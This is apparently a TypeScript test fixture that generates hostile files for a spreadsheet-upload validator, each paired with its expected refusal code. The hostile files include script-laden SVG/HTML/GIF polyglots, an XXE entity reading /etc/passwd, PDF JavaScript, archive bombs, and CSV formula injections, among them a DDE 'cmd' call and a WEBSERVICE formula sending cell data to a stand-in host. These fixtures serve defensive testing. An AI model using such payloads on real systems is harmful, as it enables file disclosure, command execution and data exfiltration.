import { strToU8, zipSync } from 'fflate';
import { packed } from '#platform/tabular/testing.ts';
import type { HostileFile, HostileFiles } from './hostile-file.ts';

export const bytes = (...parts: (string | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string, 'latin1')));
export const run = '<script>fetch("https://elsewhere.example")</script>';

/** The head of a picture of so many pixels. */
export const picture = (pixels: number): Uint8Array => {
  const head = Buffer.alloc(33);
  head.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  head.writeUInt32BE(pixels, 16);
  head.writeUInt32BE(pixels, 20);
  return head;
};

/** What is no table at all, whatever it is called. */
const foreign: Readonly<Record<string, () => Uint8Array>> = {
  'drawing.svg': () => bytes(`<svg xmlns="http://www.w3.org/2000/svg">${run}</svg>`),
  'page.xls': () => bytes(`<html>${run}<table><tr><td>a</td></tr></table></html>`),
  'page-after-spaces.csv': () => bytes(`\n \t<!DOCTYPE html>${run}`),
  'document.xml': () => bytes('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l SYSTEM "file:///etc/passwd">]><x>&l;</x>'),
  'hundred-megapixels.png': () => picture(10_000),
  'where-it-was-taken.jpg': () => bytes([0xff, 0xd8, 0xff, 0xe1, 0, 0x40], 'Exif\0\0MM\0*', [0x88, 0x25], 'GPS'),
  'picture-and-script.gif': () => bytes('GIF89a/*', [1, 0, 1, 0, 0], `*/=1;${run}`),
  'paper.pdf': () => bytes('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'),
  'paper-and-archive.pdf': () => Buffer.concat([bytes('%PDF-1.7\n'), packed({ 'a.csv': strToU8('a,b') })]),
  'archive-that-starts-itself.exe': () => Buffer.concat([bytes('MZ', [0x90, 0, 3, 0]), packed({ a: strToU8('a') })]),
  'program.elf': () => bytes([0x7f], 'ELF', [2, 1, 1, 0]),
  'packed.gz': () => bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
  'packed.7z': () => bytes('7z', [0xbc, 0xaf, 0x27, 0x1c, 0, 4]),
  'packed.rar': () => bytes('Rar!', [0x1a, 7, 1, 0]),
  'text.docx': () => packed({ 'word/document.xml': strToU8('<a/>'), '[Content_Types].xml': strToU8('<Types/>') }),
  'program.jar': () => packed({ 'META-INF/MANIFEST.MF': strToU8('Main-Class: A'), 'A.class': bytes([0xca, 0xfe]) }),
  'archive-in-archive.zip': () => packed({ 'inner.zip': zipSync({ 'inner.zip': zipSync({ a: strToU8('a') }) }) }),
  'no-encoding.csv': () => bytes([0xd0, 0xff, 0xff, 0x2c]),
  'zeros.csv': () => bytes('a,b\n1,\0\0\n'),
};

const table = (cell: string): Uint8Array => strToU8(`名,号\n甲,${cell}\n`);
/** Cells that would calculate where the table is opened next. */
const calculating: Readonly<Record<string, string>> = {
  'equals.csv': '=1+1',
  'plus.csv': '+A1',
  'minus.csv': '-2+3*4',
  'at.csv': '@SUM(A1)',
  'tab.csv': '"\t=1+1"',
  'line.csv': '"\r\n=1+1"',
  'full-width.csv': '＝1+1',
  'full-width-at.csv': '＠SUM(A1)',
  'unseen-before.csv': '\u200b=1+1',
  'command.csv': `"=cmd|' /C calc'!A0"`,
  'command-behind-minus.csv': `"-cmd|' /C calc'!A0"`,
  'picture-fetched.csv': '"=WEBSERVICE(""https://elsewhere.example/?""&A1)"',
  'utf-7.csv': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
};

const of = (refused: string, make: () => Uint8Array, limits: HostileFile['limits'] = {}): HostileFile => ({
  make,
  refused,
  limits,
});

export const others: HostileFiles = {
  'nothing.csv': of('tabular.empty_file', () => new Uint8Array()),
  ...Object.fromEntries(Object.entries(foreign).map(([name, make]) => [name, of('tabular.unknown_type', make)])),
  ...Object.fromEntries(
    Object.entries(calculating).map(([name, cell]) => [name, of('cells tabular.formula', () => table(cell))]),
  ),
  'too-large.csv': of('tabular.too_large', () => table('a'.repeat(2_000)), { bytes: 1_000 }),
  'quote-without-end.csv': of('tabular.damaged', () => table(`"${'a,'.repeat(600_000)}`)),
  'million-columns.csv': of('tabular.too_many_columns', () => table(`a${',1'.repeat(400_000)}`)),
  'rows-without-end.csv': of('tabular.too_many_rows', () => strToU8(`名\n${'甲\n'.repeat(2_100)}`), { rows: 2_000 }),
};
